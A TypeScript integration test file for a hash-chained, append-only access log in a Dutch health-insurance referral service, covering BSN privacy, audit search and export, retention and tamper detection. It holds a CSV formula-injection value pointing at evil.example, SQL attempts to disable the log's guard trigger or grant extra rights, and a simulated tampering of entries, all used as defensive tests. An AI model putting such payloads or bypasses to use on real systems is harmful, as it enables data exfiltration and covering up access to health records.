/**
 * The access log end to end: intake, reads of a task and a referral, a foreign read, a reactive
 * BSN search and a consent withdrawal each leave an entry (who, role, organisation, person as the
 * log knows them, action, resource, purpose, outcome); an auditor finds them by person, user and
 * period, as JSON or CSV, within their own organisation; the log cannot be changed, and the hash
 * chain shows it when someone with the database owner's rights changes or removes an entry anyway.
 * Tampering breaks the chain for good, so this file works in a database of its own.
 */
import { randomBytes } from 'node:crypto';
import { Client } from 'pg';
import { DataSource } from 'typeorm';
import { AuditService, ensureDatabase } from '@app/platform';
import { amsterdamDate, splitRecord } from '@app/core';
import { asRole, giveTask, http, referralMessage, RunningApi, startApi, startWorker, token, waitFor } from './support/harness';
import { replayThenDrop } from './support/replay';

const url = (() => {
  const u = new URL(process.env.TEST_DATABASE_URL!);
  u.pathname = `${u.pathname}_au${randomBytes(3).toString('hex')}`;
  return u.toString();
})();
const UZOVI = '8701';
let api: RunningApi;
let db: Client;
const today = amsterdamDate(new Date());
const auditor = () => token('auditor', { uzovi: [UZOVI], subject: 'auditor-1' });
const mediator = (subject = 'mediator-1', uzovi = UZOVI) => token('mediator', { uzovi: [uzovi], subject });

async function search(body: Record<string, unknown>, t = auditor(), query = '') {
  return http(api.url, 'POST', `/v1/audit/search${query}`, { token: t, body });
}

let msg: Record<string, any>;
let referralId: string;
let taskId: string;

beforeAll(async () => {
  await ensureDatabase(url);
  api = await startApi({ DATABASE_URL: url });
  db = new Client({ connectionString: url });
  await db.connect();

  // Three entries from six years ago open the chain (past AUDIT_RETENTION_YEARS, see 'retention').
  await db.query(
    `INSERT INTO access_log (at, actor, actor_role, organisation, action, resource, purpose, outcome)
     SELECT now() - interval '6 years' + n * interval '1 minute', 'old-user', 'mediator', $1, 'read', 'task/old-' || n, 'zorgbemiddeling', 'allowed'
       FROM generate_series(1, 3) AS n`,
    [UZOVI],
  );
  expect(await api.app.get(AuditService).seal()).toBe(3);

  msg = referralMessage({ uzovi: UZOVI });
  const res = await http(api.url, 'POST', '/v1/referrals', { token: token('referral-service', { uzovi: [UZOVI], subject: 'verwijsdienst' }), body: msg });
  expect(res.status).toBe(201);
  referralId = res.body.id;
  taskId = await giveTask(db, referralId);
  expect((await http(api.url, 'POST', `/v1/worklist/tasks/${taskId}/claim`, { token: mediator(), body: { version: 1 } })).status).toBe(200);
  expect((await http(api.url, 'GET', `/v1/worklist/tasks/${taskId}`, { token: mediator() })).status).toBe(200);
  expect((await http(api.url, 'GET', `/v1/referrals/${referralId}`, { token: mediator('mediator-2') })).status).toBe(200);
  // Another insurer's mediator tries the same task: refused, and logged as such.
  expect((await http(api.url, 'GET', `/v1/worklist/tasks/${taskId}`, { token: mediator('intruder', '3311') })).status).toBe(404);
});
afterAll(async () => {
  await api?.close();
  await db?.end();
  await replayThenDrop(url);
});

describe('what the log holds', () => {
  it('an entry per read or change of the person, never the BSN', async () => {
    const res = await search({ bsn: msg.bsn });
    expect(res.status).toBe(200);
    expect(res.body.entries.map((e: any) => [e.actor, e.actorRole, e.organisation, e.action, e.resource, e.purpose, e.outcome])).toEqual([
      ['verwijsdienst', 'referral-service', UZOVI, 'create', `referral/${referralId}`, 'zorgbemiddeling', 'allowed'],
      ['mediator-1', 'mediator', UZOVI, 'update', `task/${taskId}`, 'zorgbemiddeling', 'allowed'],
      ['mediator-1', 'mediator', UZOVI, 'read-bsn', `task/${taskId}`, 'zorgbemiddeling', 'allowed'],
      ['mediator-2', 'mediator', UZOVI, 'read', `referral/${referralId}`, 'zorgbemiddeling', 'allowed'],
    ]);
    const personIndex = res.body.entries[0].personIndex;
    expect(personIndex).toMatch(/^[0-9a-f]{64}$/);
    expect(res.body.entries[1].details).toEqual({ command: 'claimed' });
    // The log knows the person by an index of its own, not the referral's blind index.
    const { rows } = await db.query(`SELECT bsn_blind_index FROM referral WHERE id = $1`, [referralId]);
    expect(personIndex).not.toBe(rows[0].bsn_blind_index);
    const all = (await db.query(`SELECT string_agg(row_to_json(a)::text, E'\\n') AS j FROM access_log a`)).rows[0].j;
    expect(all).not.toContain(msg.bsn);
  });

  it('records refusals, under the organisation that tried', async () => {
    const { rows } = await db.query(`SELECT actor, organisation, action, resource, outcome, person_index FROM access_log WHERE outcome = 'refused'`);
    expect(rows).toEqual([{ actor: 'intruder', organisation: '3311', action: 'read', resource: `task/${taskId}`, outcome: 'refused', person_index: null }]);
    // ... which the first insurer's auditor does not see, and the other insurer's does.
    expect((await search({ actor: 'intruder' })).body.entries).toEqual([]);
    expect((await search({ actor: 'intruder' }, token('auditor', { uzovi: ['3311'] }))).body.entries).toHaveLength(1);
  });
});

describe('attribution to the organisation touched', () => {
  it('a token acting for several insurers writes each entry under the insurer whose person it touched, findable by that auditor only', async () => {
    const other = '8702';
    const national = token('referral-service', { uzovi: [UZOVI, other], subject: 'national-service' });
    const mine = referralMessage({ uzovi: UZOVI });
    const theirs = referralMessage({ uzovi: other });
    const res = await http(api.url, 'POST', '/v1/referrals/batch', { token: national, body: { messages: [mine, theirs] } });
    expect(res.status).toBe(200);
    const desk = token('mediation-lead', { uzovi: [UZOVI, other], subject: 'shared-desk' });
    const theirTask = await giveTask(db, res.body.results[1].referralId);
    expect((await http(api.url, 'GET', `/v1/worklist/tasks/${theirTask}`, { token: desk })).status).toBe(200);
    // A refused read of a missing task touched no record: every insurer the desk acts for sees it.
    expect((await http(api.url, 'GET', '/v1/worklist/tasks/00000000-0000-4000-8000-000000000000', { token: desk })).status).toBe(404);

    const { rows } = await db.query(`SELECT actor, organisation, action, outcome FROM access_log WHERE actor IN ('national-service', 'shared-desk') ORDER BY id`);
    expect(rows).toEqual([
      { actor: 'national-service', organisation: UZOVI, action: 'create', outcome: 'allowed' },
      { actor: 'national-service', organisation: other, action: 'create', outcome: 'allowed' },
      { actor: 'shared-desk', organisation: other, action: 'read', outcome: 'allowed' },
      { actor: 'shared-desk', organisation: UZOVI, action: 'read', outcome: 'refused' },
      { actor: 'shared-desk', organisation: other, action: 'read', outcome: 'refused' },
    ]);
    const mineSeen = (await search({ bsn: mine.bsn })).body.entries.map((e: any) => e.actor);
    expect(mineSeen).toEqual(['national-service']);
    const theirAuditor = token('auditor', { uzovi: [other] });
    expect((await search({ bsn: theirs.bsn }, theirAuditor)).body.entries.map((e: any) => [e.actor, e.action])).toEqual([
      ['national-service', 'create'],
      ['shared-desk', 'read'],
    ]);
    expect((await search({ bsn: theirs.bsn })).body.entries).toEqual([]);
  });
});

describe('every person-level read', () => {
  it('a task listing and an evaluation history leave an entry per person shown', async () => {
    const lead = token('mediation-lead', { uzovi: [UZOVI], subject: 'lead-lister' });
    const list = await http(api.url, 'GET', '/v1/worklist/tasks?limit=200', { token: lead });
    expect(list.status).toBe(200);
    expect(list.body.items.length).toBeGreaterThan(0);
    const history = await http(api.url, 'GET', `/v1/referrals/${referralId}/evaluations`, { token: lead });
    expect(history.status).toBe(200);
    const { rows } = await db.query(`SELECT resource, action, person_index IS NOT NULL AS person FROM access_log WHERE actor = 'lead-lister' ORDER BY id`);
    expect(rows).toEqual([
      ...list.body.items.map((i: any) => ({ resource: `task/${i.id}`, action: 'read', person: true })),
      { resource: `referral/${referralId}/evaluations`, action: 'read', person: true },
    ]);
  });
});

describe('a reactive request', () => {
  it("needs a reason, finds only your own insurer's referrals, masks the BSN and is logged with its reason", async () => {
    const noReason = await http(api.url, 'POST', '/v1/referrals/search', { token: mediator(), body: { bsn: msg.bsn } });
    expect(noReason.status).toBe(400);
    expect(noReason.body.details).toEqual([{ field: 'reason', reason: 'is required' }]);
    const numberInReason = await http(api.url, 'POST', '/v1/referrals/search', { token: mediator(), body: { bsn: msg.bsn, reason: `patient ${msg.bsn} called` } });
    expect(numberInReason.body.details).toEqual([{ field: 'reason', reason: 'must not contain a BSN or another long number' }]);
    expect((await http(api.url, 'POST', '/v1/referrals/search', { token: mediator(), body: { bsn: '123456789', reason: 'patient called about the wait' } })).body.details).toEqual([
      { field: 'bsn', reason: 'fails the elfproef (not a valid BSN)' },
    ]);

    const found = await http(api.url, 'POST', '/v1/referrals/search', { token: mediator(), body: { bsn: msg.bsn, reason: 'patient called about the wait' } });
    expect(found.status).toBe(200);
    expect(found.body.referrals).toEqual([expect.objectContaining({ referralId, uzovi: UZOVI, bsn: `*****${msg.bsn.slice(-4)}`, taskId, taskStatus: 'in-progress' })]);
    const elsewhere = await http(api.url, 'POST', '/v1/referrals/search', { token: mediator('m-3311', '3311'), body: { bsn: msg.bsn, reason: 'patient called about the wait' } });
    expect(elsewhere.body.referrals).toEqual([]);
    expect((await http(api.url, 'POST', '/v1/referrals/search', { token: token('auditor', { uzovi: [UZOVI] }), body: { bsn: msg.bsn, reason: 'patient called' } })).status).toBe(
      403,
    );

    const entries = (await search({ bsn: msg.bsn, actor: 'mediator-1' })).body.entries.filter((e: any) => e.action === 'search');
    expect(entries).toEqual([expect.objectContaining({ purpose: 'reactive-request', outcome: 'allowed', details: { reason: 'patient called about the wait', found: 1 } })]);
  });
});

describe('searching the log', () => {
  it('by period and user, as CSV, and every search is itself logged', async () => {
    expect((await search({ actor: 'mediator-2', from: today, to: today })).body.entries).toHaveLength(1);
    const tomorrow = amsterdamDate(new Date(Date.now() + 86_400_000));
    expect((await search({ actor: 'mediator-2', from: tomorrow })).body.entries).toEqual([]);
    const csv = await search({ actor: 'mediator-2' }, auditor(), '?format=csv');
    expect(csv.headers.get('content-type')).toMatch(/^text\/csv/);
    const lines = (csv.body as string).trim().split('\n');
    expect(lines[0]).toBe('id,at,actor,actorRole,organisation,personIndex,action,resource,purpose,outcome,details');
    expect(lines[1]).toContain(`,mediator-2,mediator,${UZOVI},`);
    const { rows } = await db.query(`SELECT count(*)::int AS n FROM access_log WHERE action = 'audit-read' AND actor = 'auditor-1'`);
    expect(rows[0].n).toBeGreaterThanOrEqual(5);
    expect((await search({ from: '2026-02-30' })).body.details).toEqual([{ field: 'from', reason: 'must be a date YYYY-MM-DD' }]);
    expect((await search({ from: today, to: '2020-01-01' })).body.details).toEqual([{ field: 'to', reason: 'must not be before from' }]);
    expect((await search({}, mediator())).status).toBe(403);
  });

  it('writes a stored value beginning with = (or + - @) as a neutralised cell: a leading quote, quoted', async () => {
    // The actor is the token's subject: whatever a token names is stored as it is and must not become a formula.
    const evil = '=HYPERLINK("https://evil.example/?x","klik")';
    const sly = token('auditor', { uzovi: [UZOVI], subject: evil });
    expect((await search({ actor: 'nobody-at-all' }, sly)).body.entries).toEqual([]);
    const csv = await search({ actor: evil }, auditor(), '?format=csv');
    expect(csv.headers.get('content-type')).toMatch(/^text\/csv/);
    const [, line] = (csv.body as string).split('\n');
    expect(line).toContain(`,"'=HYPERLINK(""https://evil.example/?x"",""klik"")",auditor,`);
    expect(splitRecord(line)[2]).toBe(`'${evil}`);
    expect((await search({ actor: evil })).body.entries[0].actor).toBe(evil); // JSON keeps the value
  });

  it('GET /v1/audit/entries: by user and period in the query, the same entries as the search, a BSN refused in the URL', async () => {
    const get = (q: string, t = auditor()) => http(api.url, 'GET', `/v1/audit/entries${q}`, { token: t });
    const viaGet = await get(`?actor=mediator-2&from=${today}&to=${today}`);
    expect(viaGet.status).toBe(200);
    expect(viaGet.body.entries).toEqual((await search({ actor: 'mediator-2', from: today, to: today })).body.entries);
    expect(viaGet.body.entries).toHaveLength(1);
    expect((await get('?actor=mediator-2&limit=1')).body.entries).toHaveLength(1);
    const csv = await get('?actor=mediator-2&format=csv');
    expect(csv.headers.get('content-type')).toMatch(/^text\/csv/);
    expect((csv.body as string).split('\n')[1]).toContain(`,mediator-2,mediator,${UZOVI},`);
    const bsnInUrl = await get(`?bsn=${msg.bsn}`);
    expect(bsnInUrl.status).toBe(400);
    expect(bsnInUrl.body.details).toEqual([{ field: 'bsn', reason: expect.stringContaining('POST /v1/audit/search') }]);
    expect(JSON.stringify(bsnInUrl.body)).not.toContain(msg.bsn);
    expect((await get('?limit=0')).body.details).toEqual([{ field: 'limit', reason: 'must be a whole number from 1 to 10,000' }]);
    expect((await get('?limit=abc')).body.details).toEqual([{ field: 'limit', reason: 'must be a whole number from 1 to 10,000' }]);
    expect((await get('?actor=a&actor=b')).body.details).toEqual([{ field: 'actor', reason: 'must be given once' }]);
    expect((await get('?name=x')).body.details).toEqual([{ field: 'name', reason: 'is not an allowed field' }]);
    expect((await get('', mediator())).status).toBe(403);
    // The other insurer's auditor sees none of this organisation's entries.
    expect((await get('?actor=mediator-2', token('auditor', { uzovi: ['3311'] }))).body.entries).toEqual([]);
  });
});

describe('withdrawal', () => {
  it('is logged with the person, while the referral keeps no blind index', async () => {
    const res = await http(api.url, 'POST', '/v1/consent-withdrawals', { token: token('referral-service', { uzovi: [UZOVI], subject: 'verwijsdienst' }), body: { referralId } });
    expect(res.status).toBe(200);
    const entries = (await search({ bsn: msg.bsn })).body.entries;
    expect(entries.at(-1)).toMatchObject({
      action: 'withdraw',
      purpose: 'consent-withdrawal',
      outcome: 'allowed',
      resource: `referral/${referralId}`,
      details: { tasksClosed: 1 },
    });
    expect((await db.query(`SELECT bsn_blind_index FROM referral WHERE id = $1`, [referralId])).rows[0].bsn_blind_index).toBeNull();
  });
});

describe('sealing', () => {
  it('the worker seals new entries into the chain within seconds, without anyone asking', async () => {
    const { rows } = await db.query(`SELECT count(*)::int AS n FROM access_log WHERE seq IS NULL`);
    expect(rows[0].n).toBeGreaterThan(0);
    const worker = await startWorker({ DATABASE_URL: url });
    try {
      await waitFor(async () => (await db.query(`SELECT count(*)::int AS n FROM access_log WHERE seq IS NULL`)).rows[0].n === 0, 10_000);
    } finally {
      await worker.close();
    }
    expect(await api.app.get(AuditService).verify()).toMatchObject({ brokenAt: null, unsealed: 0 });
  });
});

describe('retention of the log itself', () => {
  it('keeps five years at least; older sealed entries go, and the chain verifies from the anchor they leave', async () => {
    const audit = api.app.get(AuditService);
    const retention = api.config.retention.databaseUrl; // ggz_retention
    expect(retention).toContain('ggz_retention@');
    // Only the retention role may purge: the API's own connection is refused, naming the way.
    await expect(audit.purge(5)).rejects.toThrow(/only the role ggz_retention may run it; set RETENTION_DATABASE_URL/);
    await expect(audit.purge(4, retention)).rejects.toThrow(/at least five years/);
    const before = await audit.verify();
    expect(await audit.purge(5, retention)).toBe(3);
    expect((await db.query(`SELECT count(*)::int AS n FROM access_log WHERE actor = 'old-user'`)).rows[0].n).toBe(0);
    const { rows } = await db.query(`SELECT seq::int AS seq FROM access_log_anchor`);
    expect(rows).toEqual([{ seq: 3 }]);
    expect(await audit.verify()).toMatchObject({ brokenAt: null, entries: before.entries - 3 });
    expect(await audit.purge(5, retention)).toBe(0);
    // Nobody else can delete: not even the owner outside the purge.
    await expect(db.query(`DELETE FROM access_log WHERE actor = 'mediator-2'`)).rejects.toThrow(/append-only/);
  });
});

describe('the log cannot be changed', () => {
  it('refuses UPDATE, DELETE and TRUNCATE, even to the owner', async () => {
    await expect(db.query(`UPDATE access_log SET actor = 'someone-else'`)).rejects.toThrow(/append-only/);
    await expect(db.query(`DELETE FROM access_log`)).rejects.toThrow(/append-only/);
    await expect(db.query(`TRUNCATE access_log`)).rejects.toThrow(/append-only/);
  });

  it('the API runs as ggz_api and the worker as ggz_worker, neither the owner nor a superuser', async () => {
    const whoami = async (ds: { query: (sql: string) => Promise<any[]> }) =>
      (await ds.query(`SELECT current_user AS role, (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) AS super`))[0];
    expect(await whoami(api.app.get(DataSource))).toEqual({ role: 'ggz_api', super: false });
    const worker = await startWorker({ DATABASE_URL: url });
    try {
      expect(await whoami(worker.app.get(DataSource))).toEqual({ role: 'ggz_worker', super: false });
    } finally {
      await worker.close();
    }
    const [owner] = (await db.query(`SELECT pg_get_userbyid(relowner) AS owner FROM pg_class WHERE relname = 'access_log'`)).rows;
    expect(owner.owner).not.toMatch(/^ggz_/);
  });

  it.each(['ggz_api', 'ggz_worker'])('%s may read, add and seal entries — nothing else, and no session setting opens the guard', async (role) => {
    const app = new Client({ connectionString: asRole(url, role) });
    await app.connect();
    try {
      await app.query('BEGIN');
      await app.query(
        `INSERT INTO access_log (actor, actor_role, organisation, action, resource, purpose, outcome) VALUES ('app', 'system', 'system', 'read', 'x', 'audit', 'allowed')`,
      );
      // The owner's one way for other statements to write entries: access_log_append, which refuses a long number in the details.
      const entry = (details: unknown) =>
        JSON.stringify([{ actor: 'app', actorRole: 'system', organisation: 'system', action: 'read', resource: 'x', purpose: 'audit', outcome: 'allowed', details }]);
      expect((await app.query(`SELECT access_log_append($1::jsonb) AS n`, [entry({ n: 3 })])).rows[0].n).toBe(1);
      await app.query('ROLLBACK');
      await expect(app.query(`SELECT access_log_append($1::jsonb)`, [entry({ note: 'x 12345678' })])).rejects.toThrow(/may not hold a long number/);
      expect((await app.query(`SELECT count(*)::int AS n FROM access_log`)).rows[0].n).toBeGreaterThan(0);
      const refused: [string, RegExp][] = [
        [`UPDATE access_log SET actor = 'x'`, /permission denied/],
        [`DELETE FROM access_log`, /permission denied/],
        [`TRUNCATE access_log`, /permission denied/],
        // Sealing columns only once: a sealed entry cannot be re-sealed.
        [`UPDATE access_log SET hash = repeat('0', 64) WHERE seq IS NOT NULL`, /append-only/],
        [`UPDATE access_log_anchor SET seq = 0`, /permission denied/],
        [`DELETE FROM access_log_checkpoint`, /permission denied/],
        [`UPDATE access_log_checkpoint SET seq = 0`, /permission denied/],
        [`INSERT INTO access_log_purging (txid) VALUES (txid_current())`, /permission denied/],
        [`SELECT access_log_purge(5)`, /permission denied/],
        [`ALTER TABLE access_log DISABLE TRIGGER tr_access_log_append_only`, /must be owner/],
        [`DROP TRIGGER tr_access_log_append_only ON access_log`, /must be owner/],
        [`CREATE TABLE mine (id int)`, /permission denied/],
        [`CREATE OR REPLACE FUNCTION access_log_guard() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RETURN OLD; END $$`, /must be owner|permission denied/],
        [`INSERT INTO typeorm_migrations (timestamp, name) VALUES (1, 'x')`, /permission denied/],
      ];
      for (const [sql, reason] of refused)
        await expect([
          sql,
          await app.query(sql).then(
            () => 'done',
            (e: Error) => e.message,
          ),
        ]).toEqual([sql, expect.stringMatching(reason)]);
      // The old way round the guard: a session setting any connection could make.
      await app.query(`SET ggz.access_log_purge = 'on'`);
      await expect(app.query(`DELETE FROM access_log`)).rejects.toThrow(/permission denied/);
      // Granting itself more: Postgres warns "no privileges were granted", and nothing changes.
      await app.query(`GRANT DELETE ON access_log TO ${role}`);
      await expect(app.query(`DELETE FROM access_log`)).rejects.toThrow(/permission denied/);
    } finally {
      await app.end();
    }
  });

  it('ggz_retention may call the purge and nothing else', async () => {
    const retention = new Client({ connectionString: asRole(url, 'ggz_retention') });
    await retention.connect();
    try {
      expect((await retention.query(`SELECT access_log_purge(5)::int AS n`)).rows[0].n).toBe(0);
      await expect(retention.query(`SELECT count(*) FROM access_log`)).rejects.toThrow(/permission denied/);
      await expect(retention.query(`DELETE FROM access_log`)).rejects.toThrow(/permission denied/);
      await expect(retention.query(`SELECT count(*) FROM referral`)).rejects.toThrow(/permission denied/);
    } finally {
      await retention.end();
    }
  });

  it('shows tampering: the chain verifies, then breaks at the entry that was changed or removed', async () => {
    await api.app.get(AuditService).checkpoint(api.config.audit.checkpointKey); // as the worker does every minute
    const intact = await http(api.url, 'GET', '/v1/audit/verify', { token: auditor() });
    expect(intact.body).toMatchObject({ intact: true, brokenAt: null });
    expect(intact.body.entries).toBeGreaterThan(10);

    // Someone with the owner's rights switches the guard off and edits an entry.
    const { rows } = await db.query(`SELECT id::text FROM access_log WHERE actor = 'mediator-2' ORDER BY id LIMIT 1`);
    await db.query(`ALTER TABLE access_log DISABLE TRIGGER tr_access_log_append_only`);
    await db.query(`UPDATE access_log SET actor = 'someone-else' WHERE id = $1`, [rows[0].id]);
    const changed = await http(api.url, 'GET', '/v1/audit/verify', { token: auditor() });
    expect(changed.body).toMatchObject({ intact: false, brokenAt: rows[0].id, reason: expect.stringMatching(/content does not match/) });

    // Putting it back is not enough once an entry has been removed.
    await db.query(`UPDATE access_log SET actor = 'mediator-2' WHERE id = $1`, [rows[0].id]);
    expect((await http(api.url, 'GET', '/v1/audit/verify', { token: auditor() })).body.intact).toBe(true);
    await db.query(`DELETE FROM access_log WHERE id = $1`, [rows[0].id]);
    await db.query(`ALTER TABLE access_log ENABLE TRIGGER tr_access_log_append_only`);
    const removed = await http(api.url, 'GET', '/v1/audit/verify', { token: auditor() });
    expect(removed.body).toMatchObject({ intact: false, reason: expect.stringMatching(/does not link/) });
    expect(Number(removed.body.brokenAt)).toBeGreaterThan(Number(rows[0].id));
  });
});
